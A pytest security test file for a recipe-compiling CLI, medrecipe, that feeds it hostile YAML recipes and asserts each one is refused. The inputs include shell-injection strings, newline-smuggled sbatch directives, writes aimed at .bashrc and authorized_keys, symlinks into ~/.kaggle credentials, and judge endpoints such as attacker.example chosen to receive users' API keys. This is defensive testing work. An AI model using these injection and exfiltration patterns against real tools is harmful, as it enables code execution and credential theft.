"""A recipe is untrusted input: recipes written to attack the machine that runs them. Each is run as a user would
run it, through the CLI, and where scripts are generated they are executed with stand-in tools on PATH. No payload
may run, no secret may appear in any written file or output, nothing outside the target may change, nothing may
hang or exhaust memory, and every refusal is exit 2 with the recipe's file:line:col and no traceback."""

from __future__ import annotations

import json
import os
import re
import resource
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from medrecipe.errors import UserError

from .conftest import RECIPES
from .judge_server import JudgeServer

TOKEN = "hf_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7"
PAYLOAD = "touch pwned"

BASE = """\
name: hostile
base_model: Qwen/Qwen3-8B
"""


def medrecipe(*args: str, cwd: Path, env: dict | None = None, timeout: int = 120) -> subprocess.CompletedProcess:
    """The CLI in its own process, as a user runs it (with a token in the environment, as users have)."""
    environment = {**os.environ, "HF_TOKEN": TOKEN, "HF_HUB_OFFLINE": "1", **(env or {})}
    return subprocess.run([sys.executable, "-m", "medrecipe.cli.main", *args], cwd=cwd, env=environment,
                          capture_output=True, text=True, timeout=timeout)


def refused(result: subprocess.CompletedProcess, *fragments: str) -> None:
    assert result.returncode == 2, result.stdout[-2000:] + result.stderr[-2000:]
    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout
    for fragment in fragments:
        assert fragment in result.stderr, result.stderr


def no_payload_ran(root: Path) -> None:
    assert not list(root.rglob("pwned")), "a payload ran"


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


# ------------------------------------------------------------------------------------ code from a recipe


@pytest.mark.parametrize("setting, fragment", [
    ("eval: {benchmarks: [{name: medqa, path: x.jsonl, split: 'x$(touch pwned)'}]}", "eval.benchmarks[0].split: not of the form this field takes"),
    ("compute: {slurm: {partition: \"gpu\\ntouch pwned\"}}", "compute.slurm.partition: not of the form this field takes"),
    ("compute: {slurm: {account: 'acct; touch pwned'}}", "compute.slurm.account: not of the form this field takes"),
    ("compute: {slurm: {qos: \"normal\\n#SBATCH --wrap=touch pwned\"}}", "compute.slurm.qos: not of the form this field takes"),
    ("compute: {slurm: {sbatch_args: {\"constraint\\ntouch pwned\": h100}}}", "compute.slurm.sbatch_args"),
    ("compute: {slurm: {sbatch_args: {constraint: \"h100\\ntouch pwned\"}}}", "compute.slurm.sbatch_args.constraint: not of the form this field takes"),
    ("compute: {slurm: {venv: '/opt/venv; touch pwned'}}", "compute.slurm.venv: not of the form this field takes"),
    # Slurm would write the job's output where the recipe says, or run a file of the recipe's in bash before the job
    # (--export=BASH_ENV=..., found by review): only the options that shape the job's request, by their full names
    ("compute: {slurm: {sbatch_args: {output: /home/victim/.bashrc}}}", "--output is not an sbatch option a recipe may set"),
    ("compute: {slurm: {sbatch_args: {err: /home/victim/.ssh/authorized_keys}}}", "--err is not an sbatch option"),
    ("compute: {slurm: {sbatch_args: {chd: /tmp}}}", "--chd is not an sbatch option"),
    ("compute: {slurm: {sbatch_args: {export: 'ALL,BASH_ENV=recipes/evil.yaml'}}}", "--export is not an sbatch option"),
    ("compute: {slurm: {sbatch_args: {container: /tmp/bundle}}}", "--container is not an sbatch option"),
    ("compute: {slurm: {sbatch_args: {wrap: x}}}", "--wrap is not an sbatch option"),
    # lighteval parses its model as `key=value,...` (ModelConfig._parse_args): this would add trust_remote_code=True
    ("eval: {benchmarks: [medqa], model: 'attacker/model,trust_remote_code=True'}", "eval.model: 'attacker/model,trust"),
    ("eval: {benchmarks: [medqa], model: './model,trust_remote_code=True'}", "eval.model: './model,trust"),
    ("rl: {algorithm: dpo, init_from: './m,x=y', data: {path: p.jsonl}, learning_rate: 1.0e-6, train_batch_size: 8}",
     "rl.init_from: './m,x=y'"),
    # card metadata the Hub reads as language codes and tags: one word each, no YAML of their own
    ("publish: {card: {language: [\"en\\n---\\nfoo: 1\"]}}", "publish.card.language[0]: not of the form this field takes"),
    ("publish: {card: {tags: ['medical <b>x</b>']}}", "publish.card.tags[0]: not of the form this field takes"),
])
def test_names_that_reach_scripts_are_refused_at_their_line(tmp_path, setting, fragment):
    recipe = write(tmp_path, "r.yaml", BASE + setting + "\n")
    for command in (["validate"], ["compile", "--out", "build"], ["run", "--dry-run", "--out", "build"]):
        refused(medrecipe(command[0], str(recipe), *command[1:], cwd=tmp_path), "r.yaml:3:", fragment)
    no_payload_ran(tmp_path)


def test_overrides_and_environment_values_are_held_to_the_same_rules(tmp_path):
    recipe = write(tmp_path, "r.yaml", BASE + "eval: {benchmarks: [{name: medqa, path: x.jsonl, split: '${env:SPLIT,test}'}]}\n")
    refused(medrecipe("compile", str(recipe), cwd=tmp_path, env={"SPLIT": "x$(touch pwned)"}), "eval.benchmarks[0].split")
    refused(medrecipe("compile", str(recipe), "--set", "eval.benchmarks.0.split=x`touch pwned`", cwd=tmp_path),
            "--set eval.benchmarks.0.split=")
    no_payload_ran(tmp_path)


@pytest.fixture
def stand_in_tools(tmp_path):
    """`python`, `lighteval`, `hub_file`-free: stand-ins that record their arguments, first on PATH."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    calls = tmp_path / "calls.jsonl"
    for tool in ("python", "python3", "lighteval", "torchrun", "ray"):
        script = bin_dir / tool
        script.write_text("#!/bin/sh\n" f"{sys.executable} -c 'import json,sys; print(json.dumps(sys.argv))' {tool} \"$@\" >> {calls}\n"
                          # prepare_model.py prints the model's name, then add_special_tokens
                          'if [ "$2" = "--special-tokens" ]; then echo false; else echo "$2"; fi\n')
        script.chmod(script.stat().st_mode | stat.S_IEXEC)
    return {"PATH": f"{bin_dir}:{os.environ['PATH']}", "calls": calls}


def test_hostile_local_paths_stay_data_in_every_generated_script(tmp_path, stand_in_tools):
    """Paths may hold any character: in the generated scripts they are shell words, never shell code."""
    evil = "evil $(touch pwned) `touch pwned` \"; touch pwned; echo \" 'x'"
    (tmp_path / f"{evil}.jsonl").write_text('{"question": "q", "options": {"A": "a", "B": "b"}, "answer_idx": "A"}\n')
    model = tmp_path / f"model {evil}"
    model.mkdir()
    recipe = write(tmp_path, "r.yaml", BASE + textwrap.dedent(f"""\
        rl:
          algorithm: dapo
          init_from: {json.dumps(str(model))}
          data: {{path: {json.dumps(evil + '.jsonl')}, fields: {{prompt: question, answer: answer_idx}}}}
          rollout_batch_size: 8
          mini_batch_size: 8
          samples_per_prompt: 4
          learning_rate: 1.0e-6
          warmup_steps: 2
        eval:
          model: {json.dumps(str(model))}
          benchmarks: [{{name: medqa, path: {json.dumps(evil + '.jsonl')}, split: test}}]
          backend: accelerate
        compute: {{gpus_per_node: 2}}
        """))
    result = medrecipe("compile", str(recipe), "--out", "build", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    build = tmp_path / "build"
    env = {**os.environ, "PATH": stand_in_tools["PATH"]}
    for script in ("eval/stage_data.sh", "eval/launch.sh", "rl/launch.sh"):
        run = subprocess.run(["bash", str(build / script)], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
        assert run.returncode == 0, (script, run.stderr)
    no_payload_ran(tmp_path)
    calls = [json.loads(line) for line in stand_in_tools["calls"].read_text().splitlines()]
    assert any(str(model) in call for call in calls)  # the model's path reached the tool as one argument, unchanged
    assert (build / "eval" / "data" / "medqa" / "test-00000.jsonl").resolve() == (tmp_path / f"{evil}.jsonl").resolve()


# ------------------------------------------------------------------------------------------ secrets


def test_a_recipe_reads_no_data_from_hidden_files_and_folders(tmp_path):
    """Found by review: a data source at ~/.kaggle/kaggle.json (one JSON line) became a record, and `publish` would
    have pushed the key. A path through a hidden file or folder is refused where the recipe names it, and a folder or
    glob leaves out what it finds in hidden ones (`path: ~` searched the whole home folder)."""
    from medrecipe.blocks.data_files import local_files

    home = tmp_path / "home"
    (home / ".kaggle").mkdir(parents=True)
    (home / ".kaggle" / "kaggle.json").write_text('{"username": "victim", "key": "0123456789abcdef0123456789abcdef"}\n')
    (home / "data").mkdir()
    (home / "data" / "notes.jsonl").write_text('{"q": "a", "r": "b"}\n')
    for setting, line in (("data: {sources: [{name: notes, path: ~/.kaggle/kaggle.json, fields: {prompt: username, response: key}}]}", 3),
                          ("sft: {datasets: [{path: /home/victim/.cache/huggingface/x.jsonl}]}", 3),
                          ("eval: {benchmarks: [{name: medqa, path: ./.secrets/medqa}]}", 3)):
        refused(medrecipe("validate", str(write(tmp_path, "r.yaml", BASE + setting + "\n")), cwd=tmp_path, env={"HOME": str(home)}),
                f"r.yaml:{line}:", "a hidden file or folder, where credentials and settings are kept")
    assert local_files(str(home)) == [home / "data" / "notes.jsonl"]
    assert local_files(str(home / ".kaggle" / "*.json")) == [home / ".kaggle" / "kaggle.json"]  # named whole: validation's
    assert local_files(str(home / "*")) == []


def test_a_link_in_a_recipes_folder_does_not_lead_a_source_or_a_parent_into_a_hidden_folder(tmp_path):
    """Found by review: git keeps links, so a shared recipe's folder can hold `creds.jsonl -> ~/.kaggle/kaggle.json`
    or `extra -> ~/.kaggle`, which the check of the path as written let through: the key became a curated record.
    And `extends` read a parent from a hidden folder into build/recipe.resolved.yaml."""
    from medrecipe.blocks.data_files import local_files

    home = tmp_path / "home"
    (home / ".kaggle").mkdir(parents=True)
    (home / ".kaggle" / "kaggle.json").write_text('{"username": "victim", "key": "0123456789abcdef0123456789abcdef"}\n')
    shared = tmp_path / "shared-recipe"
    (shared / "data").mkdir(parents=True)
    (shared / "data" / "notes.jsonl").write_text('{"username": "a", "key": "b"}\n')
    (shared / "creds.jsonl").symlink_to(home / ".kaggle" / "kaggle.json")
    (shared / "extra").symlink_to(home / ".kaggle")
    (shared / "data" / "more.json").symlink_to(home / ".kaggle" / "kaggle.json")
    assert local_files(str(shared / "extra")) == [] and local_files(str(shared / "data")) == [shared / "data" / "notes.jsonl"]
    assert local_files(str(shared / "data" / "*.json*")) == [shared / "data" / "notes.jsonl"]
    recipe = write(shared, "r.yaml", BASE + "data: {sources: [{name: s, path: creds.jsonl, fields: {prompt: username, response: key}}]}\n")
    result = medrecipe("run", str(recipe), "--stage", "data", "--out", str(tmp_path / "build"), cwd=shared, env={"HOME": str(home)})
    refused(result, "creds.jsonl leads to", "a hidden file or folder where credentials and settings are kept")
    assert not list((tmp_path / "build").rglob("*.parquet"))

    (home / ".config").mkdir()
    write(home / ".config", "private.yaml", BASE + "description: internal notes\n")
    for reference in (str(home / ".config" / "private.yaml"), "~/.config/private.yaml"):
        result = medrecipe("validate", str(write(shared, "child.yaml", f"extends: {reference}\n")), cwd=shared, env={"HOME": str(home)})
        refused(result, "child.yaml:1:", "lies in a hidden folder")
    (shared / "parent.yaml").symlink_to(home / ".config" / "private.yaml")
    refused(medrecipe("validate", str(write(shared, "child.yaml", "extends: parent.yaml\n")), cwd=shared), "lies in a hidden folder")
    assert medrecipe("validate", str(write(shared, "child.yaml", "extends: quickstart\n")), cwd=shared).returncode == 0


def test_a_project_in_a_dotted_folder_is_held_to_the_same_rule_and_a_dataset_store_is_not_a_secret(tmp_path):
    """Found by review: the link check asked only whether the path as written had any hidden part, so a project under
    `.work/` read a link into ~/.kaggle and extended ~/.config; and git-annex (DataLad) and DVC datasets, whose files
    link into .git/annex/objects or .dvc/cache, lost those files."""
    from medrecipe.blocks.data_files import local_files

    home = tmp_path / "home"
    (home / ".kaggle").mkdir(parents=True)
    (home / ".kaggle" / "kaggle.json").write_text('{"username": "victim", "key": "0123456789abcdef0123456789abcdef"}\n')
    (home / ".config").mkdir()
    write(home / ".config", "private.yaml", BASE + "description: internal notes\n")
    shared = tmp_path / ".work" / "shared"
    shared.mkdir(parents=True)
    (shared / "creds.jsonl").symlink_to(home / ".kaggle" / "kaggle.json")
    (shared / "mine.jsonl").symlink_to(tmp_path / ".work" / "data.jsonl")  # within the project's own dotted folder
    (tmp_path / ".work" / "data.jsonl").write_text('{"username": "a", "key": "b"}\n')
    assert local_files(str(shared / "mine.jsonl")) == [shared / "mine.jsonl"]
    with pytest.raises(UserError, match="creds.jsonl leads to"):
        local_files(str(shared / "creds.jsonl"))
    refused(medrecipe("validate", str(write(shared, "child.yaml", "extends: ~/.config/private.yaml\n")), cwd=shared,
                      env={"HOME": str(home)}), "lies in a hidden folder")

    dataset = tmp_path / "annexed"
    for store in (dataset / ".git" / "annex" / "objects" / "ab", dataset / ".dvc" / "cache" / "cd"):
        store.mkdir(parents=True)
        (store / "content").write_text('{"username": "a", "key": "b"}\n')
    (dataset / "data").mkdir()
    (dataset / "data" / "train.jsonl").symlink_to(dataset / ".git" / "annex" / "objects" / "ab" / "content")
    (dataset / "data" / "more-train.jsonl").symlink_to(dataset / ".dvc" / "cache" / "cd" / "content")
    assert local_files(str(dataset), "train") == [dataset / "data" / "more-train.jsonl", dataset / "data" / "train.jsonl"]
    assert local_files(str(dataset / "data" / "train.jsonl")) == [dataset / "data" / "train.jsonl"]


@pytest.mark.parametrize("setting", [
    'description: "built with ${env:HF_TOKEN}"',
    "hub: {namespace: '${env:HUGGING_FACE_HUB_TOKEN}'}",
    "description: '${env:OPENAI_API_KEY,none}'",
    "description: '${env:MY_SERVICE_PASSWORD}'",
    "description: '${env:PGPASSWORD}'",  # names that end in a secret's word without a separator
    "description: '${env:OPENAI_APIKEY}'",
    "description: '${env:GITHUB_PAT}'",
    "description: '${env:DATABASE_URL}'",  # an innocent name, a credential's value
    "description: '${env:BUILD_NOTE}'",
    # found by review: a CI job's JWT, a Google OAuth token, a signing key under names that said none of these words
    "description: '${env:CI_JOB_JWT}'",
    "description: '${env:OAUTH_BEARER}'",
    "description: '${env:SIGNING_PRIVATE}'",
    "description: '${env:SERVICE_NOTE}'",
    "description: '${env:RUNNER_NOTE}'",
])
def test_a_recipe_cannot_read_a_secret_from_the_environment(tmp_path, setting):
    recipe = write(tmp_path, "r.yaml", BASE + setting + "\n")
    secrets = {"HUGGING_FACE_HUB_TOKEN": TOKEN, "OPENAI_API_KEY": "sk-" + "x" * 30, "MY_SERVICE_PASSWORD": "hunter2hunter2",
               "PGPASSWORD": "hunter3hunter3", "OPENAI_APIKEY": "hunter4hunter4", "GITHUB_PAT": "hunter5hunter5",
               "DATABASE_URL": "postgres://admin:hunter6hunter6@db/x", "BUILD_NOTE": "ghp_" + "y" * 36,
               "CI_JOB_JWT": "hunter7hunter7", "OAUTH_BEARER": "hunter8hunter8", "SIGNING_PRIVATE": "hunter9hunter9",
               "SERVICE_NOTE": "ya29.a0AfH6SMB" + "z" * 30, "RUNNER_NOTE": "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ2aWN0aW0ifQ.c2lnbmF0dXJl"}
    for command in ("validate", "show", "plan", "compile"):
        result = medrecipe(command, str(recipe), cwd=tmp_path, env=secrets)
        refused(result, "r.yaml:3:")
        assert "would write a secret" in result.stderr or "would be written into the build" in result.stderr
        assert not any(value in result.stdout + result.stderr for value in secrets.values())
    assert not (tmp_path / "build").exists()
    refused(medrecipe("validate", str(RECIPES / "quickstart.yaml"), "--set", "description=${env:HF_TOKEN}", cwd=tmp_path),
            "would write a secret")


@pytest.mark.parametrize("variable", ["HF_TOKEN", "HUGGING_FACE_HUB_TOKEN", "RAY_AUTH_TOKEN", "AWS_SECRET_ACCESS_KEY", "WANDB_API_KEY"])
def test_a_recipe_cannot_send_another_services_credential_to_its_endpoint(tmp_path, variable):
    """A recipe names both an endpoint and the variable whose value is its key: naming the Hub token (or a cloud,
    Ray or W&B credential) would hand it to a server of the recipe author's choosing. Refused at the line, before
    anything is sent."""
    with JudgeServer() as server:
        recipe = write(tmp_path, "r.yaml", BASE + f"""\
eval:
  benchmarks: [{{name: healthbench}}]
  judge: {{model: rubric-judge, endpoint: "{server.endpoint}", api_key_env: {variable}}}
""")
        for command in ("validate", "preflight", "plan"):
            result = medrecipe(command, str(recipe), cwd=tmp_path, env={variable: TOKEN})
            refused(result, "r.yaml:5:", f"eval.judge.api_key_env: {variable} holds a credential of", "OPENAI_API_KEY")
            assert TOKEN not in result.stdout + result.stderr
        step = "data: {sources: [{name: s, path: s.jsonl}], steps: [{type: judge_filter, model: j, endpoint: 'http://127.0.0.1:9/v1', " \
               f"api_key_env: {variable}}}]}}\n"
        refused(medrecipe("validate", str(write(tmp_path, "d.yaml", BASE + step)), cwd=tmp_path, env={variable: TOKEN}),
                "d.yaml:3:", f"data.steps[0].api_key_env: {variable} holds a credential of")
        assert server.requests == [] and server.listings == []


def test_a_providers_key_goes_to_that_provider_only(tmp_path):
    """Found by review: `preflight` sent $OPENAI_API_KEY to the judge endpoint a recipe named (a server of its author's
    on 127.0.0.1), asking it for its models. A provider's key is now refused for any host but its own API's."""
    key = {"OPENAI_API_KEY": "sk-proj-" + "v" * 30}
    with JudgeServer() as server:
        recipe = write(tmp_path, "r.yaml", BASE + f"""\
eval:
  benchmarks: [{{name: healthbench}}]
  judge: {{model: rubric-judge, endpoint: "{server.endpoint}", api_key_env: OPENAI_API_KEY}}
""")
        for command in ("validate", "preflight"):
            refused(medrecipe(command, str(recipe), cwd=tmp_path, env=key), "r.yaml:5:",
                    "eval.judge.endpoint: OPENAI_API_KEY is a key of api.openai.com's API, and medrecipe sends it there "
                    "only (over HTTPS), not to 127.0.0.1, named by the recipe", "name the variable of that server's own key")
        # the judge_filter step's default variable is OpenAI's too
        step = "data: {sources: [{name: s, path: s.jsonl}], steps: [{type: judge_filter, model: j, endpoint: 'https://api.openai.com.evil.example/v1'}]}\n"
        refused(medrecipe("validate", str(write(tmp_path, "d.yaml", BASE + step)), cwd=tmp_path, env=key),
                "d.yaml:3:", "data.steps[0].endpoint: OPENAI_API_KEY is a key of api.openai.com's API")
        assert server.requests == [] and server.listings == []
        # the endpoint given on the command line is the user's own choice, as compute.ray.address is
        assert medrecipe("validate", str(write(tmp_path, "mine.yaml", BASE + "eval:\n  benchmarks: [{name: healthbench}]\n")),
                         "--set", f"eval.judge={{model: rubric-judge, endpoint: '{server.endpoint}', api_key_env: OPENAI_API_KEY}}",
                         cwd=tmp_path, env=key).returncode == 0
    from medrecipe.recipe.untrusted import key_destination_problem

    assert key_destination_problem("OPENAI_API_KEY", "https://api.openai.com/v1") is None
    assert key_destination_problem("AZURE_OPENAI_API_KEY", "https://my-resource.openai.azure.com/openai") is None
    assert key_destination_problem("OPENAI_API_KEY", "http://api.openai.com/v1")  # not over HTTPS
    assert key_destination_problem("MY_SERVER_KEY", "http://127.0.0.1:8000/v1") is None  # a variable of the server's own
    # found by review: OpenAI's keys under other names went anywhere (an exact-name list)
    for variable in ("OPENAI_ADMIN_KEY", "OPENAI_API_KEY_2", "ANTHROPIC_API_KEY_BACKUP", "COHERE_API_KEY"):
        assert "medrecipe sends it there only" in key_destination_problem(variable, "http://127.0.0.1:8000/v1"), variable
    assert key_destination_problem("AZURE_OPENAI_KEY", "https://med.openai.azure.com/openai") is None
    assert key_destination_problem("AZURE_OPENAI_KEY", "https://api.openai.com/v1")  # Azure's, not OpenAI's


@pytest.mark.parametrize("variable", ["KAGGLE_KEY", "AZURE_CLIENT_SECRET", "DATABRICKS_TOKEN", "MY_VLLM_KEY"])
def test_a_recipe_cannot_send_any_key_of_yours_to_a_server_it_names(tmp_path, variable):
    """Found by review: a deny-list of other services' credentials let KAGGLE_KEY, AZURE_CLIENT_SECRET or
    DATABRICKS_TOKEN go to any host a recipe named, and preflight sent them. A variable that names no LLM provider goes
    to a server the recipe names only on this machine; a server elsewhere is the user's to name (--set)."""
    judge = "eval:\n  benchmarks: [{name: healthbench}]\n  judge: {model: j, endpoint: 'http://attacker.example:8000/v1', " \
            f"api_key_env: {variable}}}\n"
    recipe = write(tmp_path, "r.yaml", BASE + judge)
    for command in ("validate", "preflight"):
        refused(medrecipe(command, str(recipe), cwd=tmp_path, env={variable: "secret-of-the-user"}), "r.yaml:5:",
                f"eval.judge.endpoint: {variable} may hold any secret of yours, and medrecipe sends a key from your environment "
                "to a server the recipe names only on this machine, not to attacker.example, named by the recipe",
                "name no key (api_key_env: ~), or give the endpoint yourself if it is yours to trust: --set eval.judge.endpoint=")
    step = ("data: {sources: [{name: s, path: s.jsonl}], steps: [{type: judge_filter, model: j, "
            f"endpoint: 'https://vllm.example.org/v1', api_key_env: {variable}}}]}}\n")
    refused(medrecipe("validate", str(write(tmp_path, "d.yaml", BASE + step)), cwd=tmp_path), "d.yaml:3:",
            f"data.steps[0].endpoint: {variable} may hold any secret of yours")
    mine = medrecipe("validate", str(write(tmp_path, "mine.yaml", BASE + "eval:\n  benchmarks: [{name: healthbench}]\n")),
                     "--set", f"eval.judge={{model: j, endpoint: 'https://vllm.example.org/v1', api_key_env: {variable}}}",
                     cwd=tmp_path)
    assert mine.returncode == 0, mine.stderr
    # a parent recipe file named like an override is still a file (found by review: it passed for the command line)
    write(tmp_path, "--set x.yaml", BASE + judge)
    disguised = write(tmp_path, "child.yaml", 'extends: "--set x.yaml"\n')
    refused(medrecipe("preflight", str(disguised), cwd=tmp_path, env={variable: "secret-of-the-user"}),
            f"eval.judge.endpoint: {variable} may hold any secret of yours")


def test_a_recipe_cannot_choose_the_ray_cluster_that_receives_the_ray_token(tmp_path):
    """Ray sends $RAY_AUTH_TOKEN to the cluster it connects to: with a token in the environment, an address written
    in the recipe is refused before anything connects; the same address given on the command line is the user's."""
    recipe = write(tmp_path, "r.yaml", f"extends: {RECIPES / 'quickstart.yaml'}\ncompute: {{ray: {{address: 'http://127.0.0.1:9'}}}}\n")
    token = {"RAY_AUTH_TOKEN": "ray-token-of-the-user"}
    for stage in ("eval", "data"):
        launcher = ["--launcher", "ray"] if stage == "eval" else ["--executor", "ray"]
        refused(medrecipe("run", str(recipe), "--stage", stage, *launcher, "--dry-run" if stage == "eval" else "--workers=1",
                          "--out", "build", cwd=tmp_path, env=token),
                "r.yaml:2:", "compute.ray.address (http://127.0.0.1:9) comes from the recipe", "--set compute.ray.address=")
    mine = medrecipe("run", str(recipe), "--stage", "eval", "--launcher", "ray", "--dry-run", "--out", "mine",
                     "--set", "compute.ray.address=http://127.0.0.1:8265", cwd=tmp_path, env=token)
    assert mine.returncode == 0 and "ray job submit --address=http://127.0.0.1:8265" in mine.stdout, mine.stderr


def test_llm_endpoints_own_keys_stay_allowed(tmp_path):
    for variable, endpoint in (("OPENAI_API_KEY", "https://api.openai.com/v1"),
                               ("GOOGLE_API_KEY", "https://generativelanguage.googleapis.com/v1beta/openai"),
                               ("AZURE_OPENAI_API_KEY", "https://med.openai.azure.com/openai/v1"),
                               ("TOGETHER_API_KEY", "https://api.together.xyz/v1"), ("MY_VLLM_KEY", "http://127.0.0.1:9/v1")):
        recipe = write(tmp_path, "r.yaml", BASE + "eval:\n  benchmarks: [{name: healthbench}]\n"
                       f"  judge: {{model: j, endpoint: '{endpoint}', api_key_env: {variable}}}\n")
        result = medrecipe("validate", str(recipe), cwd=tmp_path)
        assert result.returncode == 0, result.stderr


def test_a_token_pasted_into_a_recipe_is_redacted_everywhere(tmp_path):
    recipe = write(tmp_path, "r.yaml", BASE + f'description: "built with {TOKEN}"\n'
                   "sft: {datasets: [{path: x}], sequence_len: 512}\n")
    outputs = []
    for command in (["show"], ["plan"], ["compile", "--out", "build"], ["publish", "--dry-run", "--out", "build", "--namespace", "me"]):
        result = medrecipe(command[0], str(recipe), *command[1:], cwd=tmp_path)
        outputs.append(result.stdout + result.stderr)
    assert all(TOKEN not in output for output in outputs) and "[redacted]" in outputs[0]
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert TOKEN.encode() not in path.read_bytes() or path.name == "r.yaml", path


# ------------------------------------------------------------------------------------ writes outside the build


@pytest.mark.parametrize("namespace", ["x/../../victim", "/tmp/victim", "..", "a--b", "a b"])
def test_a_namespace_cannot_name_a_path(tmp_path, namespace):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "precious.txt").write_text("keep me")
    recipe = write(tmp_path, "r.yaml", BASE + f"hub: {{namespace: {json.dumps(namespace)}}}\n" +
                   "data: {sources: [{name: s, path: s.jsonl}]}\n")
    for command in (["run", "--out", "build/x"], ["publish", "--to-dir", "repos", "--out", "build/x"]):
        refused(medrecipe(command[0], str(recipe), *command[1:], cwd=tmp_path), "hub.namespace")
    assert (victim / "precious.txt").read_text() == "keep me"


def test_to_dir_never_replaces_the_build_or_folders_medrecipe_did_not_write(tmp_path, cli, monkeypatch):
    from .release_fixtures import write_recipe, write_run

    from medrecipe.compile.layout import Layout
    from medrecipe.recipe import load_recipe

    work = tmp_path / "work"
    recipe = write_recipe(work)
    monkeypatch.chdir(work)
    build = work / "build" / "tiny-med"
    write_run(Layout(build.resolve(), load_recipe(recipe).recipe))
    before = sorted(str(p.relative_to(build)) for p in build.rglob("*"))
    # the build folder inside --to-dir (the build would be a repository's folder)
    result = cli("publish", "recipe.yaml", "--stage", "data", "--to-dir", str(work / "build"), "--namespace", "me")
    assert result.code == 2 and "inside" in result.err
    # a folder of the same name that medrecipe did not write
    (work / "repos" / "tiny-med-data").mkdir(parents=True)
    (work / "repos" / "tiny-med-data" / "notes.txt").write_text("mine")
    result = cli("publish", "recipe.yaml", "--stage", "data", "--to-dir", str(work / "repos"), "--namespace", "me")
    assert result.code == 2 and "medrecipe did not write it" in result.err
    assert (work / "repos" / "tiny-med-data" / "notes.txt").read_text() == "mine"
    assert sorted(str(p.relative_to(build)) for p in build.rglob("*")) == before
    # an empty folder is fine, and a second export replaces only what the first wrote
    assert cli("publish", "recipe.yaml", "--stage", "data", "--to-dir", str(work / "out"), "--namespace", "me").code == 0
    assert cli("publish", "recipe.yaml", "--stage", "data", "--to-dir", str(work / "out"), "--namespace", "me").code == 0


def test_a_build_never_replaces_a_folder_medrecipe_did_not_write(tmp_path):
    """Found by review: `compile --out` (and `run`) at an existing folder replaced its lock.json and sft/axolotl.yaml
    without a word. A folder that holds a build's names (lock.json, sft/, ...) but is no build is refused before
    anything is written; a new folder, a build, a folder of other files (a build writes beside them) and what a run
    that stopped before its lock.json left behind are built into."""
    quickstart = str(RECIPES / "quickstart.yaml")
    locked, configured, planned = tmp_path / "locked", tmp_path / "configured", tmp_path / "planned"
    (locked / "lock.json").parent.mkdir()
    (locked / "lock.json").write_text("mylock\n")
    (configured / "sft").mkdir(parents=True)
    (configured / "sft" / "axolotl.yaml").write_text("precious\n")
    (planned / "data").mkdir(parents=True)
    (planned / "data" / "plan.json").write_text('{"my": "own plan"}\n')
    for folder, named in ((locked, "lock.json"), (configured, "sft"), (planned, "data/plan.json")):
        for command in (("compile", quickstart, "--out", str(folder)), ("run", quickstart, "--out", str(folder), "--dry-run"),
                        ("run", quickstart, "--stage", "sft", "--out", str(folder), "--dry-run")):
            refused(medrecipe(*command, cwd=tmp_path), f"--out {folder} holds {named}, which medrecipe did not write")
    assert (locked / "lock.json").read_text() == "mylock\n" and (configured / "sft" / "axolotl.yaml").read_text() == "precious\n"
    assert sorted(p.name for p in locked.iterdir()) == ["lock.json"] and sorted(p.name for p in configured.iterdir()) == ["sft"]
    assert (planned / "data" / "plan.json").read_text() == '{"my": "own plan"}\n'
    notes, stopped = tmp_path / "notes", tmp_path / "stopped"
    (notes / "data").mkdir(parents=True)
    (notes / "todo.txt").write_text("mine\n")
    (notes / "data" / "train.jsonl").write_text("mine\n")
    (stopped / "data" / "0123456789ab" / "logs").mkdir(parents=True)  # the fork server's log, written before the build
    for folder in (tmp_path / "new", notes, stopped, stopped):  # the second time into a build
        assert medrecipe("compile", quickstart, "--out", str(folder), cwd=tmp_path).returncode == 0
    assert (notes / "todo.txt").read_text() == "mine\n" == (notes / "data" / "train.jsonl").read_text()


# ------------------------------------------------------------------------------------ files that would break


@pytest.mark.parametrize("setting, field", [
    ("rl: {algorithm: dapo, data: {path: p.jsonl, fields: {prompt: q, answer: a}}, rollout_batch_size: 8, mini_batch_size: 8, "
     "samples_per_prompt: 4, learning_rate: 1.0e-6, reward: {correct: .inf}}", "rl.reward.correct: Input should be a finite number"),
    ("rl: {algorithm: dapo, data: {path: p.jsonl, fields: {prompt: q, answer: a}}, rollout_batch_size: 8, mini_batch_size: 8, "
     "samples_per_prompt: 4, learning_rate: .inf}", "rl.learning_rate: Input should be a finite number"),
    ("sft: {learning_rate: 1e400}", "sft.learning_rate"),
    ("sft: {learning_rate: .nan}", "sft.learning_rate"),
    ("seed: 1" + "0" * 100, "seed"),
    ("sft: {epochs: 1" + "0" * 100 + "}", "sft.epochs"),
    ("sft: {batch: {global_size: 1" + "0" * 100 + "}}", "sft.batch.global_size"),
])
def test_numbers_a_tool_cannot_hold_are_refused(tmp_path, setting, field):
    recipe = write(tmp_path, "r.yaml", BASE + setting + "\n")
    refused(medrecipe("compile", str(recipe), "--out", "build", cwd=tmp_path), "r.yaml:3:", field)


# ------------------------------------------------------------------------------------------ hangs


def test_sizes_that_would_exhaust_the_machine_are_refused(tmp_path):
    """Found by review: 2**31 - 1 data tasks grew past 7 GB before a task ran; k-means iterations are bounded too."""
    for override, fragment in (("compute.tasks=2147483647", "compute.tasks: Input should be less than or equal to 100000"),
                               ("compute.workers=2147483647", "compute.workers: Input should be less than or equal to 100000"),
                               ("data.steps.4.kmeans.iterations=2147483647", "data.steps[4].kmeans.iterations: Input should be less than or equal to 1000")):
        refused(medrecipe("validate", str(RECIPES / "ii-medical-8b-1706.yaml"), "--set", override, cwd=tmp_path), fragment)


def test_a_judge_prompt_with_literal_braces_is_refused_at_validation(tmp_path):
    recipe = write(tmp_path, "r.yaml", BASE + textwrap.dedent("""\
        data:
          sources: [{name: s, path: s.jsonl, fields: {prompt: q, response: r, answer: a}}]
          steps:
            - {type: judge_filter, endpoint: "http://127.0.0.1:9/v1", api_key_env: ~, prompt: 'Reply as JSON {"score": N}. {prompt} {answer} {response}'}
        """))
    refused(medrecipe("validate", str(recipe), cwd=tmp_path), "r.yaml:6:", 'the judge prompt has the placeholder(s) {"score"}',
